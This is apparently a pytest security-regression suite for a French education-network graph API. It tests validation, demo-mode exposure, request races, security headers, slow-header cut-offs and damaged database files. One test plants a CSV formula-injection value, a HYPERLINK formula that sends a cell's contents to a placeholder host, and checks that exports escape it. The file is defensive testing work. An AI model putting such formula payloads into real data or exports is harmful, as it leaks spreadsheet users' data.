"""Defects found by a hostile test of the running product (issue "Hardening, round two"), each
reproduced on the real embedded database."""

from __future__ import annotations

import csv
import http.client
import io
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.main import create_app
from graph.csv_cells import safe_cell
from graph.engines.falkordb_server import EmbeddedFalkorDB
from graph.engines.falkordb_store import FalkorDBStore
from graph.errors import DatabaseUnavailable
from graph.ingest.seed_loader import load_seeds
from graph.ingest.seeds import load_seed_dir
from graph.settings import Settings
from tests.conftest import MINI_SEEDS, ROOT, make_settings
from tests.integration.test_loader import _snapshot

TOKEN = "s3cret-token-for-tests"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
SRC = "courrier du proviseur, 2026-11-20"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[FalkorDBStore]:
    s = FalkorDBStore(make_settings(tmp_path / "db"))
    load_seeds(s, load_seed_dir(MINI_SEEDS))
    yield s
    s.close()


@pytest.fixture
def client(store: FalkorDBStore, tmp_path: Path) -> Iterator[TestClient]:
    settings = make_settings(tmp_path / "unused", api_tokens=f"alice:{TOKEN}")
    with TestClient(create_app(settings, store=store)) as c:
        yield c


def _an_actor(client: TestClient) -> dict:
    actor = client.get("/actors").json()["items"][0]
    return client.get(f"/actors/{actor['id']}").json()


@pytest.mark.parametrize("field", ["name", "kind"])
def test_a_patch_cannot_remove_a_required_field(
    client: TestClient, store: FalkorDBStore, field: str
) -> None:
    actor = _an_actor(client)
    before = _snapshot(store)
    r = client.patch(f"/actors/{actor['id']}", json={field: None, "source": SRC}, headers=AUTH)
    assert r.status_code == 422, r.text
    assert _snapshot(store) == before
    assert client.get("/actors").status_code == 200
    assert client.get(f"/actors/{actor['id']}").status_code == 200
    for campus in actor["campuses"]:
        assert client.get(f"/campuses/{campus}").status_code == 200


def test_a_patch_may_clear_an_optional_field(client: TestClient) -> None:
    actor = _an_actor(client)
    r = client.patch(
        f"/actors/{actor['id']}", json={"description": None, "source": SRC}, headers=AUTH
    )
    assert r.status_code == 200, r.text
    after = client.get(f"/actors/{actor['id']}")
    assert after.status_code == 200 and after.json()["description"] is None
    assert client.get("/actors").status_code == 200


# --- demo mode on a public interface ----------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _cmq(tmp_path: Path, *args: str, **env: str) -> subprocess.Popen[str]:
    environ = {
        **{k: v for k, v in os.environ.items() if not k.startswith("CMQ_")},
        "CMQ_DATA_DIR": str(tmp_path / "db"),
        "CMQ_PATHWAY_PRELOAD": "0",
        **env,
    }
    return subprocess.Popen(
        [sys.executable, "-m", "api.cli", *args],
        env=environ,
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def test_demo_mode_refuses_a_public_interface(tmp_path: Path) -> None:
    port = _free_port()
    proc = _cmq(tmp_path, "serve", "--host", "0.0.0.0", "--port", str(port), CMQ_DEMO="1")
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 2
    assert "--demo-public" in err and "CMQ_API_TOKENS" in err
    assert not (tmp_path / "db").exists()  # refused before the database was started


@pytest.mark.parametrize(
    ("args", "env"),
    [
        (("--host", "127.0.0.1"), {"CMQ_DEMO": "1"}),
        (("--host", "0.0.0.0", "--demo-public"), {"CMQ_DEMO": "1"}),
        (("--host", "0.0.0.0"), {"CMQ_DEMO": "1", "CMQ_DEMO_PUBLIC": "1"}),
    ],
)
def test_demo_mode_serves_on_loopback_or_when_told_twice(
    tmp_path: Path, args: tuple[str, ...], env: dict[str, str]
) -> None:
    port = _free_port()
    proc = _cmq(tmp_path, "serve", *args, "--port", str(port), **env)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and proc.poll() is None:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=2) as r:
                    assert r.status == 200
                    break
            except OSError:
                time.sleep(0.2)
        else:
            pytest.fail(f"cmq serve did not answer: {proc.returncode} {proc.stderr}")
    finally:
        proc.terminate()
        proc.communicate(timeout=30)


def test_demo_exposure_rule() -> None:
    s = Settings(demo=True)
    assert s.demo_exposure() is None  # 127.0.0.1
    for host in ("0.0.0.0", "::", "192.168.1.10", "cmq.example.org"):
        assert s.model_copy(update={"host": host}).demo_exposure() is not None
    for host in ("localhost", "::1", "127.0.0.2"):
        assert s.model_copy(update={"host": host}).demo_exposure() is None
    public = s.model_copy(update={"host": "0.0.0.0"})
    assert public.model_copy(update={"demo_public": True}).demo_exposure() is None
    with_tokens = public.model_copy(update={"api_tokens": f"alice:{TOKEN}"})
    assert with_tokens.demo_exposure() is None  # real tokens: the demo token is off
    assert Settings(host="0.0.0.0").demo_exposure() is None


# --- NaN / Infinity in JSON bodies --------------------------------------------------------------


def test_nan_and_infinity_in_any_json_body_are_a_422(client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    routes = [
        (method, path)
        for path, ops in spec["paths"].items()
        for method, op in ops.items()
        if "requestBody" in op and "{" not in path
    ]
    routes += [("patch", "/actors/" + _an_actor(client)["id"])]
    assert ("post", "/pathways/search") in routes and len(routes) >= 6
    bodies = [b'{"from_level": NaN}', b'{"radius_km": Infinity}', b'{"rate": -Infinity}']
    for method, path in routes:
        for body in bodies:
            for headers in ({}, AUTH):
                r = client.request(
                    method,
                    path,
                    content=body,
                    headers={**headers, "Content-Type": "application/json"},
                )
                assert r.status_code in (401, 422), (method, path, body, r.status_code)
                assert r.json()["detail"]


# --- CSV formula injection ----------------------------------------------------------------------


def test_csv_cells_never_start_a_formula(client: TestClient) -> None:
    body = {
        "id": "lycee-formule",
        "name": '=HYPERLINK("http://x.example/?"&A1;"clic")',
        "kind": "lycee",
        "site": "46102",
        "campus": "mini",
        "source": "@SUM(1+1) courrier du proviseur",
    }
    assert client.post("/actors", json=body, headers=AUTH).status_code == 201
    r = client.get("/gaps.csv", params={"campus": "mini", "section": "isolated_actors"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=";"))
    cells = [c for row in rows for c in row]
    # the name is said after its type (« Acteur : … »), the source cell stays escaped
    assert "Acteur : " + body["name"] in cells and "'" + body["source"] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_safe_cell() -> None:
    for text in ("=1+1", "+33 5 65", "-2", "@A1", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Lycée Champollion") == "Lycée Champollion"
    assert safe_cell(-2) == -2 and safe_cell(None) is None


# --- edit races -------------------------------------------------------------------------------


def _together(n: int, call: Callable[[int], Any]) -> list[Any]:
    """``call(i)`` for i in range(n), all started at once from n threads."""
    barrier = threading.Barrier(n)

    def run(i: int) -> Any:
        barrier.wait()
        return call(i)

    with ThreadPoolExecutor(n) as pool:
        return list(pool.map(run, range(n)))


def _changes(client: TestClient, target: str) -> list[dict]:
    return client.get("/changes", params={"target": target, "limit": 500}).json()["items"]


@pytest.mark.parametrize(
    ("path", "body", "target"),
    [
        (
            "/offers",
            {"actor": "iut-b", "diploma": "32025002", "modality": "apprenticeship"},
            "Offer:iut-b>32025002",
        ),
        (
            "/partnerships",
            {"a": "iut-b", "b": "entreprise-d", "kind": "research"},
            "Partnership:iut-b-entreprise-d",
        ),
        ("/actors", {"id": "pme-x", "name": "PME X", "kind": "company"}, "Actor:pme-x"),
        (
            "/passerelles",
            {"id": "p-new", "kind": "reorientation", "from": ["T-LP"], "to": ["32025002"]},
            "Passerelle:p-new",
        ),
    ],
)
def test_identical_concurrent_creates_make_one(
    client: TestClient, path: str, body: dict, target: str
) -> None:
    body = {**body, "source": SRC}
    codes = _together(20, lambda _: client.post(path, json=body, headers=AUTH).status_code)
    assert sorted(codes) == [201] + [409] * 19
    assert len(_changes(client, target)) == 1
    if path == "/offers":
        offers = client.get("/actors/iut-b").json()["offers"]
        assert len([o for o in offers if o["diploma"] == "32025002"]) == 1
    if path == "/partnerships":
        partners = client.get("/actors/iut-b").json()["partners"]
        assert len([p for p in partners if p["id"] == "entreprise-d"]) == 1


def test_concurrent_deletes_delete_and_log_once(client: TestClient) -> None:
    codes = _together(
        10,
        lambda _: (
            client.delete("/actors/entreprise-d", params={"source": SRC}, headers=AUTH).status_code
        ),
    )
    assert sorted(codes) == [200] + [404] * 9
    assert len(_changes(client, "Actor:entreprise-d")) == 1


def test_offers_created_while_their_actor_is_deleted(client: TestClient) -> None:
    diplomas = ["40025005", "32025002", "T-LP", "T-ING"]

    def call(i: int) -> int:
        if i == 0:
            time.sleep(0.01)
            return client.delete("/actors/iut-b", params={"source": SRC}, headers=AUTH).status_code
        body = {
            "actor": "iut-b",
            "diploma": diplomas[i % 4],
            "modality": ["school", "apprenticeship", "continuing"][i % 3],
            "site": "46102",
            "source": SRC,
        }
        return client.post("/offers", json=body, headers=AUTH).status_code

    codes = _together(12, call)
    assert codes[0] == 200
    assert set(codes[1:]) <= {201, 404, 409, 422}  # 422: "unknown actor", as for any edit
    logged = client.get("/changes", params={"limit": 500}).json()["items"]
    offer_logs = [c for c in logged if c["target"].startswith("Offer:iut-b>")]
    assert len(offer_logs) == codes[1:].count(201)
    assert client.get("/actors/iut-b").status_code == 404


def test_the_change_log_holds_what_was_sent(client: TestClient) -> None:
    sent = {"description": "Atelier de mécanique", "source": SRC}
    assert client.patch("/actors/iut-b", json=sent, headers=AUTH).status_code == 200
    assert _changes(client, "Actor:iut-b")[0]["payload"] == sent


def test_nothing_deleted_nothing_logged(client: TestClient) -> None:
    for path, params in [
        ("/actors/inconnu-x", {}),
        ("/passerelles/inconnue-x", {}),
        ("/offers", {"actor": "iut-b", "diploma": "T-ING", "modality": "school"}),
        ("/partnerships", {"a": "iut-b", "b": "lycee-a", "kind": "research"}),
    ]:
        r = client.delete(path, params={**params, "source": SRC}, headers=AUTH)
        assert r.status_code == 404, (path, r.text)
    assert client.get("/changes").json()["total"] == 0


@pytest.mark.parametrize("source", ["   abc", "      ", "  \t  x  "])
def test_a_blank_padded_source_is_a_422(
    client: TestClient, store: FalkorDBStore, source: str
) -> None:
    before = _snapshot(store)
    for path, params in [
        ("/actors/iut-b", {}),
        ("/passerelles/p-bts-lp", {}),
        ("/offers", {"actor": "iut-b", "diploma": "32025002", "modality": "school"}),
        ("/partnerships", {"a": "iut-b", "b": "entreprise-d", "kind": "research"}),
    ]:
        r = client.delete(path, params={**params, "source": source}, headers=AUTH)
        assert r.status_code == 422, (path, r.status_code, r.text)
    assert _snapshot(store) == before


def test_a_deleted_actor_leaves_the_parties_of_its_passerelles(client: TestClient) -> None:
    body = {
        "id": "p-new",
        "kind": "reorientation",
        "from": ["T-LP"],
        "to": ["32025002"],
        "parties": ["iut-b", "entreprise-d"],
        "source": SRC,
    }
    assert client.post("/passerelles", json=body, headers=AUTH).status_code == 201
    r = client.delete("/actors/entreprise-d", params={"source": SRC}, headers=AUTH)
    assert r.status_code == 200
    p = client.get("/passerelles/p-new").json()
    assert p["parties"] == ["iut-b"] and [a["id"] for a in p["party_actors"]] == ["iut-b"]
    listed = client.get("/passerelles", params={"limit": 500}).json()["items"]
    assert next(x for x in listed if x["id"] == "p-new")["parties"] == ["iut-b"]


def test_platform_hosts_have_a_kind(seed_client: TestClient) -> None:
    items = seed_client.get("/platforms", params={"limit": 500}).json()["items"]
    hosts = [h for p in items for h in p["hosts"]]
    assert hosts and all(isinstance(h["kind"], str) for h in hosts)


def test_503_bodies_name_no_file(tmp_path: Path) -> None:
    server = EmbeddedFalkorDB(tmp_path / "external")
    server.start()
    store = FalkorDBStore(Settings(graph_uri=f"unix://{server.socket}"))
    try:
        with TestClient(create_app(make_settings(tmp_path / "u"), store=store)) as c:
            assert c.get("/health").status_code == 200
            server.kill()
            for path in ("/health", "/campuses", "/actors"):
                r = c.get(path)
                assert r.status_code == 503 and r.json()["detail"]
                assert str(tmp_path) not in r.text and ".sock" not in r.text, r.text
    finally:
        store.close()
        server.stop()


# --- HTTP: security headers, 405, documented statuses -----------------------------------------


def test_security_headers(mini_client: TestClient) -> None:
    for path in ("/health", "/campuses", "/app/", "/nope"):
        h = mini_client.get(path).headers
        csp = h["content-security-policy"]
        assert "script-src 'self';" in csp and "frame-ancestors 'none'" in csp, path
        assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        assert h["x-content-type-options"] == "nosniff"
        assert h["referrer-policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in mini_client.get("/docs").headers["content-security-policy"]


@pytest.mark.parametrize(
    ("method", "path", "allow"),
    [
        ("PUT", "/actors", "GET, POST"),
        ("PUT", "/actors/lycee-a", "DELETE, GET, PATCH"),
        ("POST", "/health", "GET"),
        ("GET", "/offers", "DELETE, POST"),
    ],
)
def test_405_names_every_allowed_method(
    mini_client: TestClient, method: str, path: str, allow: str
) -> None:
    r = mini_client.request(method, path)
    assert r.status_code == 405 and r.headers["allow"] == allow


def test_400_and_413_are_documented(mini_client: TestClient) -> None:
    spec = mini_client.get("/openapi.json").json()
    ops = [op for ops in spec["paths"].values() for op in ops.values()]
    assert all({"400", "413"} <= set(op["responses"]) for op in ops)
    big = {"id": "x-y", "name": "x" * 300_000, "kind": "company", "source": SRC}
    assert mini_client.post("/actors", json=big).status_code == 413


# --- connections that send partial headers ------------------------------------------------------


def _serving(tmp_path: Path, **env: str) -> tuple[subprocess.Popen[str], int]:
    port = _free_port()
    proc = _cmq(tmp_path, "serve", "--port", str(port), **env)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and proc.poll() is None:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=2):
                return proc, port
        except OSError:
            time.sleep(0.2)
    proc.terminate()
    pytest.fail(f"cmq serve did not answer: {proc.communicate(timeout=30)}")


def _closed_after(sock: socket.socket, limit: float) -> float | None:
    """Seconds until the server closes ``sock`` (None if it is still open after ``limit``)."""
    sock.settimeout(limit)
    t0 = time.monotonic()
    try:
        while sock.recv(4096):
            pass
    except TimeoutError:
        return None
    except ConnectionResetError:
        pass
    return time.monotonic() - t0


def test_partial_headers_are_cut_off(tmp_path: Path) -> None:
    proc, port = _serving(tmp_path, CMQ_HEADER_TIMEOUT_S="1")
    with ExitStack() as sockets:

        def connect() -> socket.socket:
            return sockets.enter_context(socket.create_connection(("127.0.0.1", port)))

        try:
            partial, silent = connect(), connect()
            partial.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            took = _closed_after(partial, 6)
            assert took is not None and took < 3, took
            assert _closed_after(silent, 6) is not None
            # A client that sends its request in pieces within the limit is answered, twice.
            ok = connect()
            for _ in range(2):
                ok.sendall(b"GET /health HTTP/1.1\r\n")
                time.sleep(0.3)
                ok.sendall(b"Host: x\r\n\r\n")
                ok.settimeout(10)
                answer = http.client.HTTPResponse(ok)
                answer.begin()
                assert answer.status == 200 and answer.read()
        finally:
            proc.terminate()
            proc.communicate(timeout=30)


# --- a damaged append-only file -----------------------------------------------------------------


def _stored_then_damaged(tmp_path: Path, damage: Callable[[bytes], bytes]) -> Path:
    data_dir = tmp_path / "db"
    s = FalkorDBStore(make_settings(data_dir))
    load_seeds(s, load_seed_dir(MINI_SEEDS))
    s.close()
    incr = next((data_dir / "appendonlydir").glob("*.incr.aof"))
    incr.write_bytes(damage(incr.read_bytes()))
    return data_dir


def test_a_truncated_append_only_file_is_reported(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    data_dir = _stored_then_damaged(tmp_path, lambda b: b[:-37])
    with caplog.at_level("WARNING", logger="cmq.graph"):
        s = FalkorDBStore(make_settings(data_dir))
    try:
        assert s.server is not None and s.server.load_warning
        assert "truncated append-only file" in caplog.text and "cmq restore" in caplog.text
    finally:
        s.close()


def test_a_corrupt_append_only_file_is_named(tmp_path: Path) -> None:
    data_dir = _stored_then_damaged(tmp_path, lambda b: b[:100] + b"garbage\r\n" + b[100:])
    with pytest.raises(DatabaseUnavailable) as info:
        FalkorDBStore(make_settings(data_dir))
    message = str(info.value)
    assert "append-only file" in message and "damaged" in message and "cmq restore" in message
